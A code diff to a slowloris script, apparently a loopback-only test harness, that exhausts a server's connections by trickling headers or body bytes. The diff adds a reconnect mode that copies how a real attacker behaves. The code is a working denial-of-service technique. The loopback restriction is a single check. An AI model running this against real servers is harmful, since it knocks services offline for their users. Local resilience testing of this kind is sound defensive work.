@@ -26,6 +26,9 @@ def main():
     ap.add_argument("--conns", type=int, default=200)
     ap.add_argument("--seconds", type=float, default=10)
     ap.add_argument("--mode", choices=("both", "headers", "body"), default="both")
+    ap.add_argument("--reconnect", action="store_true",
+                    help="replace each connection the server closes, as a real attacker does"
+                         " (at most 20 times --conns connections in all)")
     args = ap.parse_args()
     if not args.host.startswith("127.") and args.host != "::1":
         sys.exit("slowloris.py: loopback only")
@@ -34,35 +37,43 @@ def main():
     heads = ("GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " % args.path).encode()
     post = ("POST %s HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/timestamp-query"
             "\r\nContent-Length: 60000\r\n\r\n" % args.path).encode()
-    socks = []
-    opened = closed = 0
-    for i in range(args.conns):
+    def open_one(body):
         s = socket.create_connection((args.host, args.port), timeout=5)
-        s.setblocking(False)
-        if args.mode == "body" or (args.mode == "both" and i % 2):
+        if body:
             s.sendall(post)
             pending = iter(lambda: bytes([random.randint(0, 255)]), None)
         else:
-            pending = iter([heads[j:j + 1] for j in range(len(heads))] +
-                           [b"a"] * 100000)
-        socks.append((s, pending))
+            pending = iter([heads[j:j + 1] for j in range(len(heads))] + [b"a"] * 100000)
+        s.setblocking(False)
+        return s, pending, body
+
+    socks = []
+    opened = closed = failed = 0
+    for i in range(args.conns):
+        socks.append(open_one(args.mode == "body" or (args.mode == "both" and i % 2 == 1)))
         opened += 1
     deadline = time.monotonic() + args.seconds
     while time.monotonic() < deadline and socks:
         alive = []
-        for s, pending in socks:
+        for s, pending, body in socks:
             try:
                 s.send(next(pending))
-                alive.append((s, pending))
+                alive.append((s, pending, body))
             except (OSError, StopIteration):
                 closed += 1
                 s.close()
+                if args.reconnect and opened < 20 * args.conns:
+                    try:
+                        alive.append(open_one(body))
+                        opened += 1
+                    except OSError:
+                        failed += 1
         socks = alive
         time.sleep(0.5)
-    for s, _ in socks:
+    for s, _, _ in socks:
         s.close()
     print(json.dumps({"opened": opened, "closed_by_server": closed,
-                      "still_open_at_end": len(socks)}))
+                      "reconnects_refused": failed, "still_open_at_end": len(socks)}))
 
 
 if __name__ == "__main__":
